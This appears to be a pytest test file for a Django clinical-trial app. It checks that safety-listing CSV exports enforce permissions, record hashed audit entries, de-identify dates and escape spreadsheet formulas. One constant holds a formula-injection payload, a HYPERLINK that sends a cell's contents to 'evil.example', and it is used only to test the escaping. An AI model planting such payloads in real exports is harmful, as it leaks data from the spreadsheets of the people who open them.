"""Every bulk download of the safety summary is an export (issue 15): the export permission, a record
with its hash, formula-safe cells, and no identifiable data for those who may export only
de-identified data."""

import csv
import hashlib
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse

from adverse_events.models import AdverseEvent
from exports.models import DateShift, ListingExport
from tests.adverse_events.test_safety_summary import trial  # noqa: F401 - the fixture

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def download(client, user, table="listing", **params):
    client.force_login(user)
    return client.get(reverse("safety_summary"), {"csv": table, **params})


def cells(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("role", ["coordinator", "monitor", "auditor"])
def test_roles_that_do_not_export_cannot_download_the_listing(client, request, trial, role):  # noqa: F811
    user = request.getfixturevalue(role)
    for table in ("listing", "by_term", "crs_icans", "cytopenias_infections"):
        assert download(client, user, table).status_code == 403, table
    assert "csv=listing" not in client.get(reverse("safety_summary")).content.decode()
    assert not ListingExport.objects.exists()


def test_each_download_is_recorded_with_who_what_and_the_hash_of_the_file(
    client,
    sponsor_admin,
    trial,  # noqa: F811
):
    response = download(client, sponsor_admin, dose_level="DL1")
    assert response.status_code == 200
    record = ListingExport.objects.get()
    assert (record.user, record.name, record.deidentified) == (sponsor_admin, "safety-listing", False)
    assert record.sha256 == hashlib.sha256(response.content).hexdigest()
    assert (record.rows, record.bytes) == (len(cells(response)), len(response.content))
    assert record.parameters["dose_level"] == "DL1"


def test_the_listing_neutralises_formulas_and_keeps_numbers(client, sponsor_admin, trial):  # noqa: F811
    AdverseEvent.objects.filter(participant=trial["p1"]).update(verbatim=FORMULA)
    rows = cells(download(client, sponsor_admin))
    verbatims = {r["verbatim"] for r in rows if r["participant"] == trial["p1"].study_id}
    assert verbatims == {"'" + FORMULA}
    assert all(r["study_day"].lstrip("-").isdigit() and not r["study_day"].startswith("'") for r in rows)


def test_who_may_export_only_deidentified_data_gets_a_deidentified_listing(
    client,
    data_manager,
    trial,  # noqa: F811
):
    p1 = trial["p1"]
    AdverseEvent.objects.filter(participant=p1).update(verbatim="Patient QX felt hot")
    response = download(client, data_manager)
    text = response.content.decode("utf-8-sig")
    rows = cells(response)
    assert "verbatim" not in rows[0] and "felt hot" not in text
    offset = DateShift.objects.get(participant=p1).days
    real = {e.onset_date for e in AdverseEvent.objects.filter(participant=p1)}
    shown = {date.fromisoformat(r["onset_date"]) for r in rows if r["participant"] == p1.study_id}
    # Every date shown is a real onset moved by the participant's (non-zero) offset. One event's shifted
    # date may coincide with another event's real date: that says nothing about either.
    assert offset != 0
    assert shown and shown <= {d + timedelta(days=offset) for d in real}
    assert ListingExport.objects.get().deidentified


def test_listing_exports_show_on_the_export_page_and_in_the_audit_trail(
    client,
    sponsor_admin,
    study,
    trial,  # noqa: F811
):
    from tests.exports.factories import read_zip, run

    download(client, sponsor_admin)
    record = ListingExport.objects.get()
    page = client.get(reverse("export_list")).content.decode()
    assert "safety-listing" in page and record.sha256[:16] in page
    access = cells_of(read_zip(run(sponsor_admin, study, formats=("audit",)))["audit/access_events.csv"])
    assert [(r["event"], r["username"]) for r in access if r["event"].startswith("listing")] == [
        ("listing_export:safety-listing", sponsor_admin.username)
    ]


def cells_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
